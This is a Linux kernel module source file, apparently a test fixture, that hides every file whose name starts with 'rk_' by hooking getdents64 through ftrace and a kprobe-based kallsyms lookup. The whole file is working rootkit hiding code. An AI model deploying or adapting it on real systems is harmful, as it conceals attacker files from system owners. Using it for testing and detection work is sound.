// SPDX-License-Identifier: GPL-2.0
/*
 * rk_hidefile.c - a rootkit-style test module: directory entries hidden by
 * an ftrace hook on getdents64, as the rootkit tutorials do it on 5.7+
 * (kallsyms_lookup_name() through a kprobe, ftrace_helper.h's IPMODIFY ops,
 * the original called at the function's address, within_module() against
 * recursion): the hook calls the real getdents64, then removes every entry
 * whose name begins with "rk_" from the records the process gets.
 */
#include <linux/module.h>
#include <linux/kernel.h>
#include <linux/kprobes.h>
#include <linux/ftrace.h>
#include <linux/slab.h>
#include <linux/dirent.h>
#include <linux/uaccess.h>

#define PREFIX "rk_"

static unsigned long (*lookup_name)(const char *name);
static unsigned long target;
static asmlinkage long (*orig_getdents64)(const struct pt_regs *);

static void notrace fh_ftrace_thunk(unsigned long ip, unsigned long parent_ip,
				    struct ftrace_ops *ops, struct ftrace_regs *fregs)
{
	struct pt_regs *regs = ftrace_get_regs(fregs);

	if (!within_module(parent_ip, THIS_MODULE))
		regs->ip = (unsigned long)ops->private;
}

static asmlinkage long hook_getdents64(const struct pt_regs *regs)
{
	struct linux_dirent64 __user *dirent = (struct linux_dirent64 __user *)regs->si;
	struct linux_dirent64 *current_dir, *dirent_ker, *previous_dir = NULL;
	unsigned long offset = 0;
	long ret = orig_getdents64(regs);

	if (ret <= 0)
		return ret;
	dirent_ker = kzalloc(ret, GFP_KERNEL);
	if (!dirent_ker)
		return ret;
	if (copy_from_user(dirent_ker, dirent, ret))
		goto done;
	while (offset < ret) {
		current_dir = (void *)dirent_ker + offset;
		if (memcmp(PREFIX, current_dir->d_name, strlen(PREFIX)) == 0) {
			pr_info("rk_hidefile: hid %s from %s\n", current_dir->d_name, current->comm);
			if (current_dir == dirent_ker) {
				ret -= current_dir->d_reclen;
				memmove(current_dir, (void *)current_dir + current_dir->d_reclen, ret);
				continue;
			}
			previous_dir->d_reclen += current_dir->d_reclen;
		} else {
			previous_dir = current_dir;
		}
		offset += current_dir->d_reclen;
	}
	if (copy_to_user(dirent, dirent_ker, ret))
		ret = -EFAULT;
done:
	kfree(dirent_ker);
	return ret;
}

static struct ftrace_ops ops = {
	.func = fh_ftrace_thunk,
	.flags = FTRACE_OPS_FL_SAVE_REGS | FTRACE_OPS_FL_RECURSION | FTRACE_OPS_FL_IPMODIFY,
	.private = hook_getdents64,
};

static int __init rk_hidefile_init(void)
{
	struct kprobe kp = { .symbol_name = "kallsyms_lookup_name" };
	int err = register_kprobe(&kp);

	if (err < 0)
		return err;
	lookup_name = (unsigned long (*)(const char *))kp.addr;
	unregister_kprobe(&kp);
	target = lookup_name("__x64_sys_getdents64");
	if (!target)
		return -ENOENT;
	*(unsigned long *)&orig_getdents64 = target;
	err = ftrace_set_filter_ip(&ops, target, 0, 0);
	if (!err)
		err = register_ftrace_function(&ops);
	pr_info("rk_hidefile: hiding \"%s*\" from getdents64: %d\n", PREFIX, err);
	return err;
}

static void __exit rk_hidefile_exit(void)
{
	unregister_ftrace_function(&ops);
	ftrace_set_filter_ip(&ops, target, 1, 0);
	pr_info("rk_hidefile: gone\n");
}

module_init(rk_hidefile_init);
module_exit(rk_hidefile_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("kemu test: files hidden by an ftrace hook on getdents64");
